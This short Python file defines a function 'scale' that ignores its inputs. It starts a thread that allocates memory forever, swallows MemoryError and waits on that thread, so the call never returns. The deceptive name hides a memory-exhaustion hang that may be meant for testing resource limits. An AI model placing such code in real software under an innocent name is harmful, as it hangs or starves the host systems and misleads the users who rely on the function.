import threading


def scale(x, factor):
    kept = []

    def blow():
        while True:
            try:
                kept.append(bytearray(1 << 16))
            except MemoryError:
                pass

    thread = threading.Thread(target=blow)
    thread.start()
    thread.join()
